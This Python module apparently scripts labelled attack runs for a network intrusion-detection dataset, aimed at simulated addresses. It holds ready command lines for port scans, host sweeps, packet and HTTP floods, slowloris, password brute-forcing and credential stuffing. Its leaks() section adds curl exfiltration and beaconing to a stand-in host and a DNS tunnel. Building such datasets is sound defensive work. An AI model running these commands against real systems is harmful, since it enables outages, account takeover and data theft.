"""Enters: nothing. Leaves: every attack of the recording: real tools, several ways each, all aimed at addresses that exist
in the recording's namespaces alone. `tool` is what leave-one-tool-out leaves out; what is of our own making says so.
"""

import sys
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
SITE = "198.51.100.1"
ATTACKER = "198.51.100.7"
# Where an infected device of the LAN is, and the addresses that it tries: the first answer, the others never do.
INFECTED, ALIVE, DEAD = "10.20.0.7", "10.40.0.0", "10.44.0.0"
ROUTER_MAC = "02:00:00:00:00:01"
WORDS = "/usr/share/dirb/wordlists/common.txt"


@dataclass
class Run:
    name: str
    tool: str
    label: str
    command: list
    seconds: int = 25
    # "site": from the Internet at the site; "lan": an infected device, at the Internet.
    wire: str = "site"


def form(work):
    """Word lists of the password tools."""
    users, passwords, combos = work / "users", work / "passwords", work / "combos"
    users.write_text("".join(f"user{n}\n" for n in range(400)))
    passwords.write_text("".join(f"pw{n}\n" for n in range(400)))
    combos.write_text("".join(f"user{n}:pw{n}\n" for n in range(400)))
    (work / "combos3").write_text("".join(f"{SITE}:user{n}:pw{n}\n" for n in range(400)))
    (work / "hosts").write_text("".join(f"10.40.{n // 200}.{n % 200 + 1}\n" for n in range(400)))
    (work / "community").write_text("public\nprivate\n")
    (work / "none").write_text("")
    return users, passwords, combos


def scans():
    nmap = ["nmap", "-n", "-Pn", "--host-timeout", "90s"]
    masscan = ["masscan", "--interface", "v0", "--adapter-ip", ATTACKER, "--router-mac", ROUTER_MAC, "--wait", "0", SITE]
    scapy = "from scapy.all import IP,TCP,send;send(IP(dst='{}')/TCP(dport=(1,{}),flags='S'),verbose=0,inter={})"
    return [
        Run("nmap-syn", "nmap", "port_scan", [*nmap, "-sS", "-p1-3000", SITE]),
        Run("nmap-connect", "nmap", "port_scan", [*nmap, "-sT", "-p1-1000", SITE]),
        Run("nmap-fin", "nmap", "port_scan", [*nmap, "-sF", "-p1-2000", SITE]),
        Run("nmap-xmas", "nmap", "port_scan", [*nmap, "-sX", "-p1-500", SITE]),
        Run("nmap-null", "nmap", "port_scan", [*nmap, "-sN", "-p1-500", SITE]),
        Run("nmap-ack", "nmap", "port_scan", [*nmap, "-sA", "-p1-500", SITE]),
        Run("nmap-udp", "nmap", "port_scan", [*nmap, "-sU", "--max-retries", "1", "-p1-600", SITE]),
        Run("nmap-top100", "nmap", "port_scan", [*nmap, "-sS", "--top-ports", "100", SITE]),
        Run("nmap-delay", "nmap", "port_scan", [*nmap, "-sS", "--scan-delay", "60ms", "-p1-400", SITE], 40),
        Run("nmap-slow", "nmap", "port_scan", ["nmap", "-n", "-Pn", "-sS", "--scan-delay", "5s", "--max-retries", "0", "-p1-500", SITE], 780),
        Run("nmap-polite", "nmap", "port_scan", ["nmap", "-n", "-Pn", "-T2", "-p1-400", SITE], 150),
        Run("masscan-200", "masscan", "port_scan", [*masscan, "--rate", "200", "-p1-4000"]),
        Run("masscan-10", "masscan", "port_scan", [*masscan, "--rate", "10", "-p1-4000"], 40),
        Run("masscan-slow", "masscan", "port_scan", [*masscan, "--rate", "0.3", "-p1-4000"], 420),
        Run("hping3-scan", "hping3", "port_scan", ["hping3", "-q", SITE, "--scan", "1-3000", "-S"]),
        Run("hping3-step", "hping3", "port_scan", ["hping3", "-q", SITE, "-S", "-p", "++1", "-i", "u100000"], 40),
        Run("nping-scan", "nping", "port_scan", ["nping", "-q", "--privileged", SITE, "--tcp", "-p", "1-300", "--rate", "20", "-c", "1"], 40),
        Run("pnscan-ports", "pnscan", "port_scan", ["pnscan", "-n20", f"{SITE}:{SITE}", "1:1500"]),
        Run("dmitry", "dmitry", "port_scan", ["dmitry", "-p", "-t", "1", SITE], 60),
        Run("netcat", "netcat", "port_scan", ["nc", "-n", "-z", "-w1", SITE, "1-2000"]),
        Run("scapy-scan", "scapy", "port_scan", ["/usr/bin/python3", "-c", scapy.format(SITE, 1500, 0)]),
        Run("scapy-scan-slow", "scapy", "port_scan", ["/usr/bin/python3", "-c", scapy.format(SITE, 400, 0.5)], 120),
    ]


def sweeps(work):
    """What a worm does first: one service, one host after the other."""
    ssh = str(work / "hosts")
    zmap = ["zmap", "-i", "v0", "-G", ROUTER_MAC, "-S", INFECTED, "-b", str(work / "none"), "-o", "/dev/null", "-q", "-c", "1"]
    masscan = ["masscan", "--interface", "v0", "--adapter-ip", INFECTED, "--router-mac", ROUTER_MAC, "--wait", "0"]
    nmap = ["nmap", "-n", "-Pn", "--max-retries", "1"]
    scapy = "from scapy.all import IP,TCP,send;send(IP(dst='10.40.7.0/24')/TCP(dport=445,flags='S'),verbose=0,inter=0.05)"
    sweep = lambda name, tool, command, seconds=30: Run(name, tool, "host_sweep", command, seconds, "lan")
    return [
        sweep("zmap-445", "zmap", [*zmap, "-p", "445", "-r", "100", f"{ALIVE}/18"]),
        sweep("zmap-23-slow", "zmap", [*zmap, "-p", "23", "-r", "3", f"{ALIVE}/18"], 90),
        sweep("masscan-hosts", "masscan", [*masscan, "--rate", "150", "-p22,445", f"{ALIVE}/18"]),
        sweep("masscan-dead", "masscan", [*masscan, "--rate", "50", "-p23", f"{DEAD}/18"]),
        sweep("nmap-hosts", "nmap", [*nmap, "-sS", "-p445", f"{ALIVE}/22"]),
        sweep("nmap-hosts-connect", "nmap", [*nmap, "-sT", "-p22,80", f"{ALIVE}/23"]),
        sweep("nmap-hosts-slow", "nmap", [*nmap, "-sS", "-p445", "--scan-delay", "900ms", f"{DEAD}/24"], 150),
        sweep("pnscan-hosts", "pnscan", ["pnscan", "-n30", f"{ALIVE}/20", "22"]),
        sweep("scapy-hosts", "scapy", ["/usr/bin/python3", "-c", scapy]),
        sweep("hydra-hosts", "hydra", ["hydra", "-I", "-l", "root", "-p", "root", "-T", "30", "-t", "1", "-M", ssh, "telnet"], 60),
        sweep("medusa-hosts", "medusa", ["medusa", "-H", ssh, "-u", "root", "-p", "root", "-M", "ftp", "-T", "20", "-t", "1"], 60),
        sweep("fping-hosts", "fping", ["fping", "-q", "-g", f"{ALIVE}/22", "-r", "0", "-i", "5"]),
        sweep("onesixtyone", "onesixtyone", ["onesixtyone", "-c", str(work / "community"), "-i", ssh, "-w", "20"]),
    ]


def floods():
    hping, nping = ["hping3", "-q", SITE], ["nping", "-q", "-N", "--privileged", SITE]
    mz = ["mausezahn", "v0", "-q", "-b", ROUTER_MAC, "-A", ATTACKER, "-B", SITE]
    scapy = "from scapy.all import IP,TCP,send;send(IP(dst='%s')/TCP(dport=80,flags='S'),verbose=0,count=20000)" % SITE
    return [
        Run("hping3-syn", "hping3", "syn_flood", [*hping, "-S", "-p", "80", "-i", "u300"], 14),
        Run("hping3-syn-fast", "hping3", "syn_flood", [*hping, "-S", "-p", "80", "-i", "u60"], 14),
        Run("hping3-syn-low", "hping3", "syn_flood", [*hping, "-S", "-p", "80", "-i", "u1400"], 20),
        Run("hping3-udp", "hping3", "udp_flood", [*hping, "-2", "-p", "53", "-d", "64", "-i", "u40"], 14),
        Run("hping3-icmp", "hping3", "icmp_flood", [*hping, "-1", "-i", "u500"], 14),
        Run("hping3-icmp-low", "hping3", "icmp_flood", [*hping, "-1", "-i", "u3500"], 20),
        Run("nping-syn", "nping", "syn_flood", [*nping, "--tcp", "-p", "80", "--flags", "syn", "--rate", "1500", "-c", "18000"], 14),
        Run("nping-udp", "nping", "udp_flood", [*nping, "--udp", "-p", "123", "--rate", "20000", "-c", "200000"], 14),
        Run("nping-icmp", "nping", "icmp_flood", [*nping, "--icmp", "--rate", "800", "-c", "10000"], 14),
        Run("mausezahn-syn", "mausezahn", "syn_flood", [*mz, "-c", "20000", "-d", "500u", "-t", "tcp", "dp=80,flags=syn"], 14),
        Run("mausezahn-udp", "mausezahn", "udp_flood", [*mz, "-c", "300000", "-d", "40u", "-t", "udp", "dp=123", "-P", "flood"], 14),
        Run("mausezahn-icmp", "mausezahn", "icmp_flood", [*mz, "-c", "20000", "-d", "600u", "-t", "icmp", "ping"], 14),
        Run("t50-syn", "t50", "syn_flood", ["t50", SITE, "--protocol", "TCP", "-S", "--dport", "80", "--saddr", ATTACKER, "--threshold", "60000"], 14),
        Run("t50-udp", "t50", "udp_flood", ["t50", SITE, "--protocol", "UDP", "--dport", "53", "--saddr", ATTACKER, "--threshold", "90000"], 14),
        Run("t50-icmp", "t50", "icmp_flood", ["t50", SITE, "--protocol", "ICMP", "--saddr", ATTACKER, "--threshold", "40000"], 14),
        Run("scapy-syn", "scapy", "syn_flood", ["/usr/bin/python3", "-c", scapy], 14),
        Run("ping-flood", "ping", "icmp_flood", ["ping", "-f", "-q", "-w", "12", SITE], 14),
        Run("fping-flood", "fping", "icmp_flood", ["fping", "-q", "-l", "-p", "2", SITE], 14),
    ]


def requests(work):
    url, node = f"http://{SITE}/", str(work / "node/node_modules/.bin/autocannon")
    return [
        Run("wrk", "wrk", "request_flood", ["wrk", "-t", "1", "-c", "8", "-d", "18", url], 20),
        Run("wrk-one", "wrk", "request_flood", ["wrk", "-t", "1", "-c", "1", "-d", "18", f"{url}search?q=1"], 20),
        Run("ab", "ab", "request_flood", ["ab", "-q", "-t", "18", "-n", "500000", "-c", "10", url], 20),
        Run("ab-keepalive", "ab", "request_flood", ["ab", "-q", "-k", "-t", "18", "-n", "500000", "-c", "20", f"{url}search"], 20),
        Run("siege", "siege", "request_flood", ["siege", "-q", "-b", "-t", "18S", "-c", "15", url], 22),
        Run("hey", "hey", "request_flood", ["hey", "-z", "18s", "-c", "20", url], 20),
        Run("hey-paced", "hey", "request_flood", ["hey", "-z", "18s", "-c", "4", "-q", "60", url], 20),
        Run("autocannon", "autocannon", "request_flood", [node, "-d", "18", "-c", "10", url], 22),
        Run("own-flood", "own-flood", "request_flood", own("flood", 18), 20),
        Run("httrack", "httrack", "crawling", ["httrack", f"{url}shop", "-O", str(work / "httrack"), "-c8", "--disable-security-limits", "-A99999999", "-%c50", "--robots=0", "-r50", "-q"], 90),
        Run("wget-crawl", "wget", "crawling", ["wget", "-q", "-r", "-l", "0", "--delete-after", "-P", str(work / "crawl"), f"{url}shop"], 90),
        Run("own-crawl", "own-crawl", "crawling", own("scraper", 120), 130),
        *slow(url, work),
    ]


def slow(url, work):
    tool = ["slowhttptest", "-u", url, "-c", "500", "-r", "60", "-l", "40", "-i", "5"]
    return [
        Run("slowhttptest-headers", "slowhttptest", "slow_http", [*tool, "-H"], 45),
        Run("slowhttptest-body", "slowhttptest", "slow_http", [*tool, "-B"], 45),
        Run("slowhttptest-few", "slowhttptest", "slow_http", ["slowhttptest", "-u", url, "-c", "60", "-r", "4", "-l", "60", "-i", "8", "-H"], 70),
        Run("slowloris", "slowloris", "slow_http", [str(work / "venv/bin/slowloris"), SITE, "-s", "200", "--sleeptime", "5"], 60),
        Run("slowloris-few", "slowloris", "slow_http", [str(work / "venv/bin/slowloris"), SITE, "-s", "50", "--sleeptime", "8"], 60),
        Run("own-slow", "own-slow", "slow_http", own("slow", 30), 35),
    ]


def paths(work):
    url, dirsearch = f"http://{SITE}", str(work / "venv/bin/dirsearch")
    ffuf = ["ffuf", "-s", "-u", f"{url}/FUZZ", "-w", WORDS]
    scan = lambda name, tool, command, seconds=25: Run(name, tool, "content_scan", command, seconds)
    return [
        scan("gobuster", "gobuster", ["gobuster", "dir", "-q", "-t", "4", "-u", url, "-w", WORDS]),
        scan("gobuster-slow", "gobuster", ["gobuster", "dir", "-q", "-t", "1", "--delay", "700ms", "-u", url, "-w", WORDS], 60),
        scan("dirb", "dirb", ["dirb", f"{url}/", WORDS, "-S", "-w"]),
        scan("dirb-slow", "dirb", ["dirb", f"{url}/", WORDS, "-S", "-w", "-z", "400"], 50),
        scan("ffuf", "ffuf", [*ffuf, "-t", "8"]),
        scan("ffuf-slow", "ffuf", [*ffuf, "-t", "1", "-p", "2"], 180),
        scan("dirsearch", "dirsearch", [dirsearch, "-q", "-t", "4", "-u", url, "-w", WORDS]),
        scan("wfuzz", "wfuzz", ["wfuzz", "-t", "4", "-z", f"file,{WORDS}", "--hc", "404", f"{url}/FUZZ"]),
        scan("nmap-http-enum", "nmap", ["nmap", "-n", "-Pn", "-p80", "--script", "http-enum", SITE], 60),
    ]


def passwords(work):
    users, words, combos = form(work)
    hydra = ["hydra", "-I", "-f", "-W", "1"]
    login = f"http-post-form://{SITE}/login:username=^USER^&password=^PASS^:S=302"
    post = ["-X", "POST", "-u", f"http://{SITE}/login", "-H", "Content-Type: application/x-www-form-urlencoded", "-mc", "302"]
    ffuf = ["ffuf", "-s", *post]
    wfuzz = ["wfuzz", "-t", "2", "-s", "0.2", "--hc", "403", "-u", f"http://{SITE}/login"]
    medusa = ["medusa", "-h", SITE, "-M", "http", "-m", "DIR:private", "-t", "2"]
    guess = lambda name, tool, command, seconds=40: Run(name, tool, "brute_force", command, seconds)
    stuff = lambda name, tool, command, seconds=40: Run(name, tool, "credential_stuffing", command, seconds)
    return [
        guess("hydra-form", "hydra", [*hydra, "-t", "4", "-l", "alice", "-P", str(words), login]),
        guess("hydra-slow", "hydra", [*hydra, "-t", "1", "-c", "4", "-l", "alice", "-P", str(words), login], 90),
        guess("hydra-basic", "hydra", [*hydra, "-t", "4", "-l", "admin", "-P", str(words), f"http-get://{SITE}/private"]),
        guess("medusa-basic", "medusa", [*medusa, "-u", "admin", "-P", str(words)]),
        guess("ncrack-basic", "ncrack", ["ncrack", "--user", "admin", "-P", str(words), "-T3", f"http://{SITE}", "-m", "http:path=/private"]),
        guess("ffuf-login", "ffuf", [*ffuf, "-t", "2", "-p", "0.1", "-d", "username=bob&password=FUZZ", "-w", str(words)]),
        guess("wfuzz-login", "wfuzz", [*wfuzz, "-z", f"file,{words}", "-d", "username=alice&password=FUZZ"]),
        guess("own-guessing", "own-guessing", own("guessing", 40)),
        guess("curl-guessing", "curl", ["sh", "-c", f"for n in $(seq 99); do curl -s -o /dev/null -d username=bob -d password=p$n http://{SITE}/login; sleep 3; done"], 100),
        stuff("hydra-combos", "hydra", [*hydra, "-t", "2", "-C", str(combos), login]),
        stuff("ffuf-users", "ffuf", [*ffuf, "-t", "2", "-p", "0.1", "-d", "username=FUZZ&password=x", "-w", str(users)]),
        stuff("wfuzz-combos", "wfuzz", [*wfuzz, "-z", f"file,{users}", "-z", f"file,{words}", "-m", "zip", "-d", "username=FUZZ&password=FUZ2Z"]),
        stuff("medusa-combos", "medusa", ["medusa", "-M", "http", "-m", "DIR:private", "-t", "1", "-C", str(work / "combos3")]),
        stuff("own-stuffing", "own-stuffing", own("stuffing", 40)),
        stuff("curl-stuffing", "curl", ["sh", "-c", f"for n in $(seq 99); do curl -s -o /dev/null -d username=u$n -d password=p http://{SITE}/login; sleep 6; done"], 150),
    ]


def leaks():
    """What an infected device does once it is one. Counters by source see little of it: the table says how little."""
    put = ["sh", "-c", "head -c 60000000 /dev/urandom > big; curl -s -o /dev/null --limit-rate 2M -T big http://10.40.9.9/up; rm big"]
    beacon = "for n in $(seq 60); do curl -s -o /dev/null http://10.40.9.9/bytes/90; sleep $(( 8 + n * 7 % 5 )); done"
    return [
        Run("curl-upload", "curl", "exfiltration", put, 60, "lan"),
        Run("curl-beacon", "curl", "beaconing", ["sh", "-c", beacon], 300, "lan"),
        *(calls(*each) for each in CALLS),
        *(upload(*each) for each in UPLOADS),
        names(),
    ]


# Tool, period in seconds, jitter, how long, and what else the device does meanwhile.
CALLS = [
    ("curl", 5, 0, 180, None), ("curl", 30, 0.2, 840, "surfer"), ("curl", 60, 0.3, 1500, "phone"),
    ("curl-post", 15, 0.3, 480, "surfer"), ("curl-post", 45, 0.1, 1080, None), ("wget", 10, 0.1, 300, "phone"),
    ("wget", 20, 0.3, 600, None), ("netcat", 10, 0, 240, "mail"), ("netcat", 30, 0.3, 900, "phone"),
    ("netcat-dead", 20, 0.1, 600, "surfer"), ("udp", 10, 0.3, 300, None), ("udp", 40, 0.2, 1080, "surfer"),
    ("three", 25, 0.2, 720, "phone"), ("dns", 15, 0.2, 480, "surfer"),
]
# What, tool, megabytes, KiB a second and parts: after a quarter of an hour of what the device usually does.
UPLOADS = [
    ("whole", "curl", 150, 3000, 1, "surfer"), ("parts", "curl", 120, 2000, 40, "phone"), ("paced", "netcat", 90, 250, 1, "surfer"),
    ("whole-office", "netcat", 200, 4000, 1, "backup"),
]
SETTLED_S = 900


def leak(*arguments):
    return " ".join([sys.executable, str(HERE / "leak.py"), *map(str, arguments)])


def beside(kind, seconds, command):
    """The command, on a device that does something honest as well."""
    honest = f"{sys.executable} {HERE / 'devices.py'} {kind} {seconds} 77 & " if kind else ""
    return ["sh", "-c", f"{honest}{command}"]


def calls(tool, period, jitter, seconds, kind):
    command = beside(kind, seconds, leak("call", tool, period, jitter, seconds, 5))
    return Run(f"call-{tool}-{period}s-{jitter * 100:.0f}", f"calls-{tool}", "beaconing", command, seconds + 10, "lan")


def upload(name, tool, megabytes, rate, parts, kind):
    seconds = SETTLED_S + int(megabytes * 1000 / rate) + 60
    command = beside(kind, seconds, f"sleep {SETTLED_S}; {leak('upload', tool, megabytes, rate, parts)}")
    return Run(f"upload-{name}", f"upload-{tool}", "exfiltration", command, seconds + 10, "lan")


def names():
    """Of our own making: a tunnel through the resolver."""
    command = beside("surfer", SETTLED_S, leak("names", 8, 240))
    return Run("names-tunnel", "own-names", "exfiltration", command, 250, "lan")


def own(kind, seconds):
    return [sys.executable, str(HERE / "clients.py"), kind, SITE, str(seconds)]


def every(work):
    return [*scans(), *sweeps(work), *floods(), *requests(work), *paths(work), *passwords(work), *leaks()]
